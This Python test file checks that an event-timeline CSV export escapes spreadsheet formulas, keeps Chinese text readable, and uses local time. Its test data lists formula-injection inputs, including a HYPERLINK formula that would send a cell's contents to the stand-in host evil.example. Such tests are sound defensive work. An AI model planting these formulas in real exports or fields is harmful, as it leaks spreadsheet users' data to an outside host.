"""Exports open safely in a spreadsheet: no formula runs, Chinese text is not garbled, times are local
(the event timeline CSV through the API and the pages; no Temporal)."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from store import models
from store.db import Database
from tests import webapp
from web.exports import cell, csv_text, local_time

EVENT = "EV-20261128-CSV01"
#: (reporter name or note as stored, what the spreadsheet must get)
HOSTILE = [
    ("=1+2", "'=1+2"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'),
    ("+86 138", "'+86 138"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("  =1+2", "'  =1+2"),
    ("小区门口垃圾堆积 = 很多", "小区门口垃圾堆积 = 很多"),  # "=" inside a text is harmless
]


def test_cells_that_would_run_as_formulas_get_a_quote() -> None:
    for raw, safe in HOSTILE:
        assert cell(raw) == safe
    assert cell(-3) == -3 and cell(2.5) == 2.5 and cell(None) == ""  # numbers are no formulas
    assert cell(datetime(2026, 11, 28, 16, 30, 5, tzinfo=UTC)) == "2026-11-29 00:30:05"  # Asia/Shanghai
    assert local_time(datetime(2026, 11, 28, 16, 30)) == "2026-11-29 00:30:00"  # naive: UTC, as stored
    text = csv_text(["a", "b"], [["=1", 1]])
    assert text.startswith("\ufeffa,b") and "'=1,1" in text


@pytest.fixture
async def seeded(org_db: Database) -> Database:
    """An event reported by ``=1+2`` with hostile notes in its timeline."""
    at = datetime(2026, 11, 28, 16, 30, tzinfo=UTC)  # 00:30 the next day in Asia/Shanghai
    async with org_db.session() as session:
        session.add(models.Event(
            event_id=EVENT, receipt_code="CSV0000001", source="portal", category="SR-01",
            description=HOSTILE[1][0], state="dispatched", stage="handling", tier="grid", unit="HS01-G1",
            grid="HS01-G1", community="HS01", street="HS", reporter_name="=1+2", created_at=at, updated_at=at))
        await session.flush()
        for seq, (raw, _) in enumerate(HOSTILE, start=1):
            session.add(models.TimelineEntry(
                event_id=EVENT, seq=seq, stage="intake", action="report" if seq == 1 else "note",
                actor=raw if seq == 1 else "wg_hs01_g1", actor_kind="reporter" if seq == 1 else "user",
                actor_name="", note=raw, at=at))
        await session.commit()
    return org_db


def _parsed(body: bytes) -> list[list[str]]:
    assert body.startswith(codecs.BOM_UTF8)  # Excel on a Chinese Windows needs it to read UTF-8
    return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8):].decode("utf-8"), newline="")))


async def test_timeline_csv_neutralises_formulas_with_bom_and_local_time(seeded: Database, tmp_path: Path) -> None:
    async with webapp.browsers(webapp.context(seeded, tmp_path))() as http:
        api = await http.get(f"/api/events/{EVENT}/timeline.csv",
                             headers=await webapp.api_login(http, "wg_hs01_g1"))
        await webapp.page_login(http, "wg_hs01_g1")
        page = await http.get(f"/events/{EVENT}/timeline.csv")
    assert api.status_code == page.status_code == 200
    assert api.content == page.content  # one writer for both
    assert api.headers["content-type"].startswith("text/csv")
    rows = _parsed(api.content)
    header, body = rows[0], rows[1:]
    assert header[:2] == ["seq", "at (Asia/Shanghai)"]
    assert [r[header.index("note")] for r in body] == [safe for _, safe in HOSTILE]
    assert body[0][header.index("actor")] == "'=1+2"  # the reporter's name
    assert {r[1] for r in body} == {"2026-11-29 00:30:00"}
    for row in body:  # no cell of the file starts as a formula
        assert not any(value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for value in row)
